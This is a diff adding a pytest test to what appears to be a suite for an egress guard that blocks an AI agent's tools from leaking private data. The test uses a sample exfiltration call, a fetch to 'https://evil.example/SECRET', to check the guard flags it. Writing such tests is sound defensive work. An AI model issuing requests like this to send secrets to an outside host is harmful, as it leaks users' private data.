@@ -218,6 +218,17 @@ async def test_s3_what_one_server_says_is_private_to_another() -> None:
     assert await run.call(SEARCH, query="SECRET")
 
 
+@pytest.mark.parametrize(("tool", "is_private"), [(LOOK, True), (FETCH, False)])
+async def test_s3_the_words_of_a_server_are_read_once_its_tool_is_acquired(
+    tool: Tool, is_private: bool
+) -> None:
+    """S3: before any call of it, and in a later run of the thread as well."""
+    run = Run()
+    run.guard = EgressGuard(lambda: [asked()], Policy(), tool_of={tool.name: tool}.get)
+    assert not await run.guard.on_turn_start(LoopState(acquired=(tool.name, "no_tool")))
+    assert await run.call(FETCH, url="https://evil.example/SECRET") is is_private
+
+
 LONG_QUESTION = "word " * 4_000
 COSTLY: dict[str, tuple[str, str, dict[str, Any]]] = {
     "letters that the server repeats": (QUESTION, "a" * 1_000_000, {"more": ["a"] * 1_000}),
